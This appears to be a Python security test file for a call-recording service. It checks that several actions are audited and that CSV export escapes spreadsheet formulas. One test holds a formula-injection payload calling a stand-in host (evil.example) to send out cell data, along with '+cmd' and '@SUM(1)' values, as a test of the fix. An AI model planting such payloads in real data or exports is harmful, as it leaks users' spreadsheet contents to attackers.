"""Finding 4 (Medium): range requests, dry-runs, phrases, listings and saved searches
were not audited; finding 10 (Low): CSV export ran formulas from customer_id."""

from __future__ import annotations

import csv
import io
import json

from sqlalchemy import select

from core.db import AuditEntry, Call, session_scope
from tests.security.conftest import World, wav_bytes


def _entries(action: str, resource: str | None = None) -> list[AuditEntry]:
    with session_scope() as db:
        query = select(AuditEntry).where(AuditEntry.action == action)
        if resource is not None:
            query = query.where(AuditEntry.resource == resource)
        return list(db.scalars(query))


def test_a_range_request_for_the_whole_file_is_a_play(fresh_world: World) -> None:
    w = fresh_world
    call = w.calls[0]
    for n, (role, rng) in enumerate((("qa", "bytes=-999999999"), ("admin", "bytes=1-"))):
        r = w.client.get(f"/calls/{call}/audio", headers={**w.as_(role), "Range": rng})
        assert r.status_code == 206, r.text
        plays = _entries("play", f"call:{call}")
        assert len(plays) == n + 1 and plays[-1].detail == {"range": rng}
    # A player's seeks right after are the same playback: no entry each.
    seek = w.client.get(f"/calls/{call}/audio", headers={**w.as_("qa"), "Range": "bytes=500-"})
    assert seek.status_code == 206 and len(_entries("play", f"call:{call}")) == 2


def test_dry_run_phrases_listings_and_saved_searches_are_audited(fresh_world: World) -> None:
    w = fresh_world
    assert w.client.post("/rules/dry-run", headers=w.as_("qa"), json={}).status_code == 200
    assert [e.actor.split()[0] for e in _entries("dry_run")] == ["test-qa"]
    r = w.client.get("/intents/collections/phrases", headers=w.as_("manager"))
    assert r.status_code == 200 and _entries("phrases", "intent:collections")
    r = w.client.get("/calls", params={"agent_id": "a-1"}, headers=w.as_("qa"))
    assert r.status_code == 200
    listed = _entries("list", "calls")
    assert listed and listed[-1].detail["filters"] == {"agent_id": "a-1"}  # type: ignore[index]
    saved = w.client.post("/saved-searches", headers=w.as_("qa"),
                          json={"name": "threats", "query": {"q": "court"}})
    assert saved.status_code == 201, saved.text
    assert w.client.get("/saved-searches", headers=w.as_("qa")).status_code == 200
    gone = w.client.delete(f"/saved-searches/{saved.json()['id']}", headers=w.as_("qa"))
    assert gone.status_code == 204
    assert len(_entries("saved_search")) == 3


def test_csv_export_escapes_formulas(fresh_world: World) -> None:
    w = fresh_world
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    up = w.client.post("/calls", headers=w.as_("qa"),
                       data={"customer_id": evil, "agent_id": "+cmd", "team": "@SUM(1)",
                             "process": "true"},
                       files={"file": ("x.wav", wav_bytes(seed=31), "audio/wav")})
    assert up.status_code == 201, up.text
    with session_scope() as db:
        call = db.get(Call, up.json()["call_id"])
        assert call is not None and call.customer_id == evil  # stored as given
    r = w.client.get("/search/export", params={"customer_id": evil}, headers=w.as_("qa"))
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert len(rows) == 1, (r.text, json.dumps(up.json()))
    assert rows[0]["customer_id"] == "'" + evil
    assert rows[0]["agent_id"] == "'+cmd" and rows[0]["team"] == "'@SUM(1)"
    for row in rows:
        assert not any(v.startswith(("=", "+", "-", "@")) for v in row.values() if v)
